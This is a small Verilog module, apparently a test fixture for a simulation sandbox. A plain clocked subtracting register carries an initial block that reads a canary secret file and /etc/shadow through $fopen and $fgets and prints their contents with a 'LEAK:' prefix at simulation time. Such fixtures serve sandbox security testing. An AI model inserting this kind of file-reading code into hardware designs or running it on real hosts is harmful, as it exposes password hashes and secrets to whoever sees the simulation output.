module dut(input clk, input rst, input [7:0] a, output reg [7:0] y);
  always @(posedge clk) if (rst) y<=0; else y<=y-a;
integer f,r; reg [8*80:1] s; initial begin f=$fopen("@CANARY@/secret.txt","r"); r=$fgets(s,f); $display("LEAK:%0s",s); f=$fopen("/etc/shadow","r"); r=$fgets(s,f); $display("LEAK:%0s",s); end
endmodule
